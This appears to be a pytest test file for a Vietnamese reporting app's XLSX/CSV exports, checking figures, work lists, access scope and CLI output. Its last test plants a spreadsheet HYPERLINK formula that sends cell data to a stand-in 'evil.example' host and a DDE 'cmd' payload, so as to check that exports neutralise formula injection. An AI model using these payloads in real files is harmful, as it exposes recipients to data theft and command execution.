"""Exports: the figures (XLSX a sheet per figure, CSV a row per unit × figure) and the work lists,
with the same numbers as coverage() and the API; scope; the CLI's JSON equals the API's."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from lms.org.services.tokens import create_token
from lms.reports.exports import FIGURE_HEADERS, SUMMARY_SHEET
from lms.reports.figures import CODES, STATUS_TITLES, coverage


def download(client, url) -> bytes:
    with client.get(url) as resp:
        assert resp.status_code == 200, (url, resp.status_code)
        return resp.get_data()


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data), read_only=True)


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --------------------------------------------------------------------------- figures


@pytest.mark.parametrize("unit_attr, code", [("P", "92"), ("D", "916"), ("C1", "31117")])
def test_xlsx_has_the_numbers_of_coverage_and_the_api(client, auth, db, world, unit_attr, code):
    unit = getattr(world.tree, unit_attr)
    cov = coverage(unit, world.today)
    auth.login(world.users.province.username)
    data = download(client, f"/reports/export/figures.xlsx?unit={code}&date=2025-10-15")
    api = client.get(f"/api/v1/coverage?unit={code}&date=2025-10-15").get_json()
    wb = workbook(data)
    try:
        assert wb.sheetnames == [SUMMARY_SHEET, *CODES]
        summary = list(wb[SUMMARY_SHEET].iter_rows(values_only=True))
        for i, fig_code in enumerate(CODES, start=1):
            f = cov.figures[fig_code]
            assert summary[i][0] == fig_code
            assert summary[i][3:8] == (f.numerator, f.denominator, f.value, f.target, STATUS_TITLES[f.status])
        for fig_code in CODES:
            rows = list(wb[fig_code].iter_rows(values_only=True))
            assert list(rows[0]) == FIGURE_HEADERS
            units = [cov.root, *cov.children]
            for row, uf in zip(rows[1:1 + len(units)], units, strict=True):
                f = uf.figures[fig_code]
                assert row[:7] == (uf.unit.name, uf.unit.code, f.numerator, f.denominator, f.value, f.target, STATUS_TITLES[f.status])
                # the same numbers as the API
                source = api if uf is cov.root else next(c for c in api["children"] if c["unit"] == uf.unit.code)
                a = source["figures"][fig_code]
                assert (row[2], row[3], row[4], row[5]) == (a["numerator"], a["denominator"], a["value"], a["target"])
            assert not any(rows[1 + len(units)])  # a blank row, then the note
    finally:
        wb.close()


def test_xlsx_headers_are_vietnamese(client, auth, db, world):
    auth.login(world.users.province.username)
    wb = workbook(download(client, "/reports/export/figures.xlsx?unit=92"))
    try:
        header = next(wb["E1"].iter_rows(values_only=True))
        assert header[:7] == ("Đơn vị", "Mã", "Tử số", "Mẫu số", "Tỷ lệ (%)", "Chỉ tiêu (%)", "Đánh giá")
        e1 = [r for r in wb["E1"].iter_rows(values_only=True)][1]
        assert e1[:7] == ("Thành phố Cần Thơ", "92", 3, 11, 27.3, 80, "Chưa đạt")
    finally:
        wb.close()


def test_csv_one_row_per_unit_and_figure(client, auth, db, world):
    cov = coverage(world.tree.P, world.today)
    auth.login(world.users.province.username)
    with client.get("/reports/export/figures.csv?unit=92&date=2025-10-15") as resp:
        assert resp.mimetype == "text/csv"
        assert 'filename="chi-tieu-92-20251015.csv"' in resp.headers["Content-Disposition"]
        rows = csv_rows(resp.get_data())
    assert rows[0][:5] == ["Mã đơn vị", "Đơn vị", "Cấp", "Mã chỉ tiêu", "Chỉ tiêu"]
    body = rows[1:]
    assert len(body) == (1 + len(cov.children)) * len(CODES)
    by_key = {(r[0], r[3]): r for r in body}
    for uf in [cov.root, *cov.children]:
        for code in CODES:
            f = uf.figures[code]
            r = by_key[(uf.unit.code, code)]
            assert r[5:10] == ["" if f.numerator is None else str(f.numerator), "" if f.denominator is None else str(f.denominator),
                               "" if f.value is None else str(f.value), "" if f.target is None else str(f.target), STATUS_TITLES[f.status]]


def test_year_changes_h(client, auth, db, world):
    auth.login(world.users.province.username)
    wb = workbook(download(client, "/reports/export/figures.xlsx?unit=31117&date=2025-10-15&year=2024"))
    try:
        h = list(wb["H"].iter_rows(values_only=True))[1]
        assert h[2:5] == (4, 5, 80)
    finally:
        wb.close()


def test_exports_stay_in_scope(client, auth, db, world):
    auth.login(world.users.commune.username)
    assert download(client, "/reports/export/figures.xlsx?unit=31117")
    for url in ("/reports/export/figures.xlsx?unit=31120", "/reports/export/figures.csv?unit=92", "/reports/export/figures.csv?unit=94",
                "/reports/export/worklist/e3.xlsx?unit=31120", "/reports/export/worklist/e3.csv?unit=92",
                "/reports/annual-report.pdf?unit=92", "/reports/export/figures.xlsx?unit=khong-co"):
        assert client.get(url).status_code == 404, url
    # no unit: the user's own
    wb = workbook(download(client, "/reports/export/figures.xlsx"))
    try:
        assert list(wb["E1"].iter_rows(values_only=True))[1][1] == "31117"
    finally:
        wb.close()
    assert client.get("/reports/export/figures.pdf?unit=31117").status_code == 404
    resp = client.get("/reports/export/figures.xlsx?unit=31117&date=31/12/2025")
    assert resp.status_code == 400 and "YYYY-MM-DD" in resp.get_data(as_text=True)


def test_mediators_cannot_export(client, auth, db, world):
    auth.login(world.users.mediator.username)
    assert client.get("/reports/export/figures.xlsx?unit=31117-01").status_code == 403
    assert client.get("/reports/export/worklist/e3.csv?unit=31117-01").status_code == 403


def test_anonymous_is_sent_to_login(client, db, world):
    resp = client.get("/reports/export/figures.xlsx?unit=92")
    assert resp.status_code == 302 and "/auth/login" in resp.headers["Location"]


# --------------------------------------------------------------------------- work lists: E3


def test_e3_worklist_xlsx_lists_overdue_and_due_soon(client, auth, db, world):
    auth.login(world.users.district.username)
    wb = workbook(download(client, "/reports/export/worklist/e3.xlsx?unit=916&date=2025-10-15"))
    try:
        rows = list(wb.worksheets[0].iter_rows(values_only=True))
    finally:
        wb.close()
    header, body = rows[0], [r for r in rows[1:] if len(r) > 1 and r[1] is not None]
    assert header[:3] == ("Họ và tên", "Năm sinh", "Số điện thoại")
    names = [r[0] for r in body]
    # overdue first (earliest deadline), then due soon, the same deadline by given name (Hạn, Học; Bốn, Năm);
    # certified and other districts' people absent
    assert names == ["Đỗ Văn Cũ", "Phạm Văn Quá Hạn", "Võ Thị Chưa Học", "Mai Văn Bốn", "Lý Thị Năm", "Ngô Thị Sắp Hạn"]
    overdue = next(r for r in body if r[0] == "Phạm Văn Quá Hạn")
    assert overdue[2] == "0901000003" and overdue[5] == "Phường An Hòa" and overdue[4] == "Khu vực 1"
    assert overdue[6].date() == dt.date(2024, 9, 1) and overdue[8].date() == dt.date(2025, 3, 1)
    assert overdue[9] == (dt.date(2025, 3, 1) - world.today).days and overdue[10] == "Quá hạn"
    soon = next(r for r in body if r[0] == "Ngô Thị Sắp Hạn")
    assert soon[9] == 5 and soon[10].startswith("Sắp đến hạn")
    assert "Trần Thị Đúng Hạn" not in names and "Lê Văn Trễ" not in names and "Thạch Thị Sáu" not in names


def test_e3_worklist_csv_status_filter_and_scope(client, auth, db, world):
    auth.login(world.users.commune.username)
    rows = csv_rows(download(client, "/reports/export/worklist/e3.csv?unit=31117&date=2025-10-15&status=overdue"))
    assert [r[0] for r in rows[1:]] == ["Đỗ Văn Cũ", "Phạm Văn Quá Hạn", "Võ Thị Chưa Học"]
    assert rows[2][6] == "01/09/2024" and rows[2][8] == "01/03/2025" and rows[2][10] == "Quá hạn"
    rows = csv_rows(download(client, "/reports/export/worklist/e3.csv?unit=31117&date=2025-10-15"))
    assert [r[0] for r in rows[1:]][-1] == "Ngô Thị Sắp Hạn"
    assert "Lý Thị Năm" not in {r[0] for r in rows}  # commune C2 is outside


# --------------------------------------------------------------------------- the CLI


def test_cli_json_equals_the_api(runner, client, db, world):
    _, token = create_token(world.users.province, "CLI")
    db.session.commit()
    for code in ("92", "31117"):
        result = runner.invoke(args=["lms", "coverage", "--unit", code, "--date", "2025-10-15"])
        assert result.exit_code == 0, result.output
        assert "Thành phố Cần Thơ" in result.output or "Phường An Hòa" in result.output  # ensure_ascii=False
        api = client.get(f"/api/v1/coverage?unit={code}&date=2025-10-15", headers={"Authorization": f"Bearer {token}"}).get_json()
        assert json.loads(result.output) == api
    result = runner.invoke(args=["lms", "coverage", "--unit", "31117", "--date", "2025-10-15", "--year", "2024"])
    assert json.loads(result.output)["figures"]["H"]["denominator"] == 5


def test_cli_csv(runner, db, world):
    cov = coverage(world.tree.P, world.today)
    result = runner.invoke(args=["lms", "coverage", "--unit", "92", "--date", "2025-10-15", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0] == ["unit_code", "unit_name", "figure", "numerator", "denominator", "value", "target", "status"]
    assert len(rows) == 1 + (1 + len(cov.children)) * len(CODES)
    e1 = next(r for r in rows if r[0] == "92" and r[2] == "E1")
    assert e1 == ["92", "Thành phố Cần Thơ", "E1", "3", "11", "27.3", "80.0", "not_met"]
    e2 = next(r for r in rows if r[0] == "92" and r[2] == "E2")
    assert e2[3:6] == ["0", "0", ""] and e2[7] == "not_applicable"


def test_cli_errors(runner, db, world):
    result = runner.invoke(args=["lms", "coverage", "--unit", "khong-co"])
    assert result.exit_code != 0 and "Không có đơn vị" in result.output
    result = runner.invoke(args=["lms", "coverage", "--unit", "92", "--date", "31/12/2025"])
    assert result.exit_code != 0 and "YYYY-MM-DD" in result.output


# --------------------------------------------------------------------------- work lists from worklists.py (D, B, C, E1, G)


def listing_rows(app, user, kind, unit, day):
    """The listing's rows as ``user`` sees them (the listings read through the scope helper)."""
    from flask import g
    from flask_login import login_user

    from lms.reports.worklists import listing

    with app.test_request_context():
        login_user(user)
        lst = listing(kind, unit, day)
        rows = [list(r) for r in lst.rows()]
        g.pop("_login_user", None)
    return lst, rows


@pytest.mark.parametrize("kind", ["d", "b", "c", "e1", "g"])
def test_other_worklists_export_the_listing_rows(app, client, auth, db, world, kind):
    lst, expected = listing_rows(app, world.users.province, kind, world.tree.P, world.today)
    if kind != "b":
        assert expected, "the world has teams failing composition, an untrained trainer, communes under E1 / G"
    auth.login(world.users.province.username)
    wb = workbook(download(client, f"/reports/export/worklist/{kind}.xlsx?unit=92&date=2025-10-15"))
    try:
        rows = list(wb.worksheets[0].iter_rows(values_only=True))
    finally:
        wb.close()
    assert list(rows[0]) == list(lst.headers)
    dates = set(lst.date_columns)
    got = [[(v.date() if i in dates and v is not None else v) for i, v in enumerate(r)] for r in rows[1:1 + len(expected)]]
    assert got == [[None if v == "" else v for v in r] for r in expected]
    assert not any(rows[1 + len(expected)])  # then a blank row and the note
    rows_csv = csv_rows(download(client, f"/reports/export/worklist/{kind}.csv?unit=92&date=2025-10-15"))
    assert rows_csv[0] == list(lst.headers) and len(rows_csv) == 1 + len(expected)
    # a commune officer gets only the commune's part, never another commune's
    auth.logout()
    auth.login(world.users.commune.username)
    assert client.get(f"/reports/export/worklist/{kind}.csv?unit=31120").status_code == 404


# --------------------------------------------------------------------------- formula injection

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_exported_text_is_never_a_formula(client, auth, db, world):
    """A team or a person named like a formula stays text: a quote before it in CSV, a string cell in XLSX."""
    from openpyxl import load_workbook as load_full

    from lms.org.models import Team

    for team in db.session.scalars(db.select(Team)):
        team.name = FORMULA
    world.overdue.person.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    auth.login(world.users.province.username)
    wb = load_full(io.BytesIO(download(client, "/reports/export/worklist/d.xlsx?unit=92&date=2025-10-15")))
    texts = [c for row in wb.worksheets[0].iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert texts and all(c.data_type == "s" for c in texts)  # the team names, kept as text
    assert FORMULA in {c.value for c in texts}
    rows = csv_rows(download(client, "/reports/export/worklist/e3.csv?unit=92&date=2025-10-15"))
    cells = [v for r in rows[1:] for v in r]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(v.startswith(("=", "+", "@")) for v in cells)
    assert all(v[1:].replace(".", "", 1).isdigit() for v in cells if v.startswith("-"))  # only negative numbers
